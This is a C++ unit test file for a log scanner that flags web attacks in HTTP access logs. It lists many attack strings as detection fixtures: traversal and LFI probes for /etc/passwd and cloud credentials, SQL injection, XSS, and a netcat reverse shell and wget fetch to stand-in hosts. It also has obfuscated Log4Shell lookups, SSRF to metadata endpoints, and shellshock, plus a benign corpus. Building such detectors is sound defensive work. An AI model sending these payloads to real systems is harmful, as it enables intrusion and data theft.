// Every attack class with its evasions (table-driven), priorities, and a benign corpus of
// realistic requests that must raise nothing.
#include "logscan/scanner.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "logscan/parse.h"
#include "unit/logscan/logscan_fixture.h"

namespace vigil::logscan {
namespace {

using testing::CombinedLine;
using testing::RulesFor;

constexpr const char* kTraversal = "Path traversal in HTTP request";
constexpr const char* kLfi = "Local file inclusion in HTTP request";
constexpr const char* kRfi = "Remote file inclusion in HTTP request";
constexpr const char* kSqli = "SQL injection in HTTP request";
constexpr const char* kXss = "Cross-site scripting in HTTP request";
constexpr const char* kCmdi = "OS command injection in HTTP request";
constexpr const char* kLog4 = "Log4Shell JNDI lookup in HTTP request";
constexpr const char* kSsrf = "Server-side request forgery in HTTP request";
constexpr const char* kScanner = "Vulnerability scanner in HTTP request";
constexpr const char* kSecret = "Secret file probe in HTTP request";

struct UriCase {
  const char* uri;
  const char* rule;
};

TEST(LogscanScannerTest, AttacksInTheUriAndTheirEvasions) {
  const UriCase cases[] = {
      // path traversal
      {"/download?file=../../../../tmp/x", kTraversal},
      {"/download?file=%2e%2e%2f%2e%2e%2fapp.conf", kTraversal},
      {"/download?file=%252e%252e%252fapp.conf", kTraversal},     // double encoded
      {"/download?file=%c0%ae%c0%ae%c0%afapp.conf", kTraversal},  // overlong UTF-8
      {"/download?file=%e0%80%ae%e0%80%ae/app.conf", kTraversal},
      {"/download?file=%u002e%u002e%u2215app.conf", kTraversal},  // %u
      {"/download?file=..%5c..%5capp.conf", kTraversal},          // backslashes
      {"/download?file=....//....//app.conf", kTraversal},        // stripped-once
      {"/static/..;/..;/manager/html", kTraversal},               // Tomcat ..;/
      {"/download?file=&#46;&#46;&#47;app.conf", kTraversal},     // HTML entities
      // local file inclusion
      {"/view?page=/etc/passwd", kLfi},
      {"/view?page=%2Fetc%2Fshadow%00.png", kLfi},  // NUL byte
      {"/view?page=/proc/self/environ", kLfi},
      {"/view?page=C:%5CWindows%5Cwin.ini", kLfi},
      {"/index.php?page=php://filter/convert.base64-encode/resource=index.php", kLfi},
      {"/fetch?u=file:///etc/hostname", kLfi},
      {"/view?page=WEB-INF/web.xml", kLfi},
      // remote file inclusion
      {"/index.php?page=http://evil.example/shell.txt?", kRfi},
      {"/index.php?include=https://203.0.113.5/x", kRfi},
      // SQL injection
      {"/item?id=1%27%20OR%20%271%27%3D%271", kSqli},
      {"/item?id=1+UNION+ALL+SELECT+NULL,NULL,version()--", kSqli},
      {"/item?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users", kSqli},
      {"/item?id=1%2527%2520or%25201%253D1--", kSqli},  // double encoded
      {"/item?id=1;DROP TABLE users", kSqli},
      {"/item?id=1 AND SLEEP(5)", kSqli},
      {"/item?id=-1) OR 3038=3038", kSqli},
      {"/login?user=admin%27--", kSqli},
      {"/item?id=1 AND extractvalue(1,concat(0x7e,@@version))", kSqli},
      {"/item?id=(SELECT * FROM information_schema.tables)", kSqli},
      {"/item?id=1%27 waitfor delay %270:0:5%27--", kSqli},
      // XSS
      {"/search?q=<script>alert(1)</script>", kXss},
      {"/search?q=%3CScRiPt%3Ealert(document.cookie)%3C/script%3E", kXss},
      {"/search?q=%253Csvg%2520onload%253Dalert(1)%253E", kXss},  // double encoded
      {"/search?q=&lt;img src=x onerror=alert(1)&gt;", kXss},     // entities
      {"/search?q=\\x22><img src=x onerror=prompt(1)>", kXss},    // nginx escapes quotes
      {"/r?next=javascript:alert(1)", kXss},
      {"/r?next=JaVaScRiPt%3Aalert%281%29", kXss},
      {"/search?q=<iframe src=//evil.example>", kXss},
      {"/search?q=<body onload=alert('x')>", kXss},
      // command injection
      {"/ping?host=127.0.0.1;id", kCmdi},
      {"/ping?host=127.0.0.1%7Ccat%20/etc/hostname", kCmdi},
      {"/ping?host=x%26%26wget%20http://evil.example/x", kCmdi},
      {"/ping?host=$(whoami)", kCmdi},
      {"/ping?host=%60id%60", kCmdi},
      {"/ping?host=x;/bin/sh%20-i", kCmdi},
      {"/ping?host=x|nc 203.0.113.5 4444 -e /bin/sh", kCmdi},
      {"/ping?host=x;cat${IFS}/etc/hostname", kCmdi},
      {"/cgi-bin/status?x=()%20%7B%20:;%7D;%20/bin/bash%20-c%20id", kCmdi},  // shellshock
      // log4shell
      {"/?x=${jndi:ldap://evil.example/a}", kLog4},
      {"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", kLog4},
      {"/?x=${${lower:j}ndi:ldap://evil.example/a}", kLog4},
      {"/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", kLog4},
      {"/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}", kLog4},
      // SSRF
      {"/fetch?url=http://169.254.169.254/latest/meta-data/iam/", kSsrf},
      {"/fetch?url=http://metadata.google.internal/computeMetadata/v1/", kSsrf},
      {"/fetch?url=http://[fd00:ec2::254]/latest/", kSsrf},
      {"/fetch?url=http://127.0.0.1:6379/", kSsrf},
      {"/fetch?url=http://localhost/admin", kSsrf},
      {"/fetch?url=https://10.0.0.5/internal", kSsrf},
      {"/fetch?url=http://192.168.1.1/", kSsrf},
      {"/fetch?url=gopher://x:6379/_FLUSHALL", kSsrf},
      {"/fetch?url=dict://x:11211/stat", kSsrf},
      {"/fetch?url=http://2852039166/", kSsrf},
      // secret probes
      {"/.env", kSecret},
      {"/.git/config", kSecret},
      {"/.git/HEAD", kSecret},
      {"/.aws/credentials", kSecret},
      {"/backup.sql", kSecret},
      {"/wp-config.php.bak", kSecret},
      {"/%2eenv", kSecret},
  };
  for (const UriCase& c : cases) {
    EXPECT_TRUE(RulesFor(CombinedLine(c.uri)).contains(c.rule))
        << c.uri << " should raise " << c.rule;
  }
}

struct HeaderCase {
  const char* agent;
  const char* referer;
  const char* rule;
};

TEST(LogscanScannerTest, AttacksInUserAgentAndReferer) {
  const HeaderCase cases[] = {
      {"${jndi:ldap://evil.example/a}", "-", kLog4},
      {"${${lower:j}${upper:n}di:dns://evil.example}", "-", kLog4},
      {"Mozilla/5.0", "${jndi:rmi://evil.example/x}", kLog4},
      {"() { :;}; /bin/bash -c 'cat /etc/passwd'", "-", kCmdi},
      {"Mozilla/5.0", "() { _; } >_[$($())] { id; }", kCmdi},
      {"sqlmap/1.7.2#stable (https://sqlmap.org)", "-", kScanner},
      {"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "-", kScanner},
      {"Mozilla/5.0 (compatible; Nuclei - Open-source project)", "-", kScanner},
      {"gobuster/3.6", "-", kScanner},
      {"Mozilla/5.0 <script>alert(1)</script>", "-", kXss},
  };
  for (const HeaderCase& c : cases) {
    EXPECT_TRUE(RulesFor(CombinedLine("/", c.agent, c.referer)).contains(c.rule))
        << c.agent << " / " << c.referer;
  }
}

TEST(LogscanScannerTest, PlainTextAndJsonMessagesCarryLog4ShellAndShellshock) {
  EXPECT_TRUE(RulesFor("WARN user login failed for ${jndi:ldap://evil.example/a}").contains(kLog4));
  EXPECT_TRUE(
      RulesFor(R"({"level":"info","msg":"lookup ${${::-j}ndi:ldap://x/a}"})").contains(kLog4));
  EXPECT_TRUE(RulesFor("env: () { :;}; echo pwned").contains(kCmdi));
  // A plain message with a request line in it is a request.
  EXPECT_TRUE(RulesFor("proxy: upstream GET /a?f=../../etc/passwd HTTP/1.1 failed").contains(kLfi));
}

TEST(LogscanScannerTest, PriorityRisesWhenTheServerAnswered2xx) {
  Scanner scanner(testing::BuiltInSignatures());
  auto priority_of = [&](int status, const char* rule) {
    for (const Finding& f :
         scanner.ScanLine(CombinedLine("/dl?file=../../etc/passwd", "curl/8", "-", status))) {
      if (f.attack->rule == rule) return f.priority;
    }
    return Priority::kDebug;
  };
  EXPECT_EQ(priority_of(200, kTraversal), Priority::kCritical);
  EXPECT_EQ(priority_of(206, kLfi), Priority::kCritical);
  EXPECT_EQ(priority_of(404, kTraversal), Priority::kWarning);
  EXPECT_EQ(priority_of(403, kLfi), Priority::kError);
  // Log4Shell is critical whatever the answer: the lookup happens when the line is logged.
  auto findings = scanner.ScanLine(CombinedLine("/", "${jndi:ldap://x/a}", "-", 400));
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].priority, Priority::kCritical);
  EXPECT_EQ(findings[0].indicator, "${jndi:");
  EXPECT_EQ(findings[0].field, kFieldUserAgent);
}

TEST(LogscanScannerTest, OneFindingPerClassAndTheDecodedIndicator) {
  Scanner scanner(testing::BuiltInSignatures());
  auto findings = scanner.ScanLine(CombinedLine("/x?a=%252Fetc%252Fpasswd&b=/etc/shadow"));
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].attack->name, "lfi");
  EXPECT_EQ(findings[0].indicator, "/etc/passwd");
}

// Realistic benign traffic: words that look like SQL, quotes, semicolons, dots, tokens, URLs.
TEST(LogscanScannerTest, BenignCorpusRaisesNothing) {
  const std::vector<std::string> uris = {
      "/",
      "/index.html",
      "/favicon.ico",
      "/static/js/app.3f9a1c.min.js",
      "/static/css/main.v1.2.3.css",
      "/assets/fonts/roboto-v30-latin-regular.woff2",
      "/search?q=select+a+union+rep",
      "/search?q=how+to+select+the+best+union+for+workers",
      "/search?q=drop+shipping+business",
      "/search?q=drop-down+menu+css",
      "/search?q=Update+from+the+delete+team",
      "/search?q=insert+coin",
      "/search?q=where+to+eat+in+Paris+or+London",
      "/search?q=O%27Brien",
      "/search?q=O'Reilly+books",
      "/search?q=Conan+O%27Brien+and+friends",
      "/search?q=rock+%27n%27+roll",
      "/search?q=I+%3C3+cats",
      "/search?q=1+%3C+2+and+3+%3E+2",
      "/search?q=Hello%3B+how+are+you%3F",
      "/search?q=cats%3B+dogs%3B+birds",
      "/search?q=C%2B%2B+templates",
      "/search?q=%22new+york%22+or+%22boston%22",
      "/search?q=tom+%26+jerry",
      "/search?q=AT%26T+store",
      "/search?q=what+is+1%3D1",
      "/search?q=sleep+apnea",
      "/search?q=benchmark+results+2026",
      "/search?q=char+siu+recipe",
      "/search?q=the+script+of+the+movie",
      "/search?q=alert+level+orange",
      "/search?q=document+cookie+policy",
      "/search?q=javascript+tutorial",
      "/search?q=cat+food",
      "/search?q=ls+command+linux",
      "/search?q=id+card+renewal",
      "/search?q=ping+pong+tables",
      "/search?q=wget+vs+curl",
      "/search?q=etc+and+so+on",
      "/search?q=passwd+command",
      "/search?q=what+does+..+mean",
      "/search?q=wait...what",
      "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
      "/search?q=caf%C3%A9+cr%C3%A8me",
      "/files/report.final.v2.pdf",
      "/files/archive.tar.gz",
      "/docs/v1.2/readme.md",
      "/users/john.doe/profile",
      "/api/v2/items?id=42&sort=-created_at&limit=50",
      "/api/v2/items?filter=price%3E10%26price%3C20",
      "/api/items?fields=id,name,price",
      "/login?next=%2Fdashboard%3Ftab%3Dsettings",
      "/redirect?url=https%3A%2F%2Fexample.com%2Fpage",
      "/share?u=https://www.example.org/article?id=5&utm_source=twitter",
      "/oauth/callback?code=4%2F0AX4XfWh&state=xyz&scope=email+profile",
      "/api/session?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZS"
      "I6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
      "/upload?data=aGVsbG8gd29ybGQsIHRoaXMgaXMgYmFzZTY0IGVuY29kZWQ%3D",
      "/img?src=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgo%3D",
      "/blog/2026/11/27/hello-world/",
      "/wp-content/uploads/2026/11/photo-1024x768.jpg",
      "/robots.txt",
      "/sitemap.xml",
      "/health",
      "/metrics",
      "/api/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
      "/calc?expr=(1%2B2)*3",
      "/cart?items=12;13;14",
      "/path/with/semi;jsessionid=ABC123",
      "/search?q=email%40example.com",
      "/search?q=100%25+cotton",
      "/events?from=2026-11-01T00%3A00%3A00Z&to=2026-11-30",
      "/search?q=union+station+chicago",
      "/search?q=select+committee+report",
      "/search?q=%27quoted%27+phrase",
      "/search?q=it%27s+a+dog%27s+life",
      "/search?q=shell+scripting+for+beginners",
      "/search?q=%3Cb%3Ebold%3C%2Fb%3E",
      "/search?q=price+%3E%3D+100",
      "/a/b/../c",
      "/search?q=env+variables",
      "/search?q=git+tutorial",
      "/docs/.well-known/security.txt",
      "/.well-known/acme-challenge/abc123",
      "/search?q=or+1",
      "/search?q=1+or+2+items",
  };
  for (const std::string& uri : uris) {
    EXPECT_TRUE(RulesFor(CombinedLine(uri)).empty())
        << uri << " raised " << *RulesFor(CombinedLine(uri)).begin();
  }
  const std::vector<std::string> agents = {
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 "
      "Safari/537.36",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
      "curl/8.5.0",
      "python-requests/2.31.0",
      "Go-http-client/1.1",
      "Googlebot/2.1 (+http://www.google.com/bot.html)",
      "kube-probe/1.29",
      "Prometheus/2.48.0",
      "Wget/1.21.3",
  };
  for (const std::string& agent : agents) {
    EXPECT_TRUE(RulesFor(CombinedLine("/", agent, "https://www.example.com/?q=a;b")).empty())
        << agent;
  }
  const std::vector<std::string> plain = {
      "2026-11-27 10:00:00 INFO user O'Brien logged in; session 42",
      "ERROR could not select from table users: timeout",
      "DEBUG config loaded from /etc/app/config.yaml",
      R"({"level":"info","msg":"request done","path":"/api/items","status":200})",
      "${HOME} is not set",
  };
  for (const std::string& line : plain) EXPECT_TRUE(RulesFor(line).empty()) << line;
}

}  // namespace
}  // namespace vigil::logscan
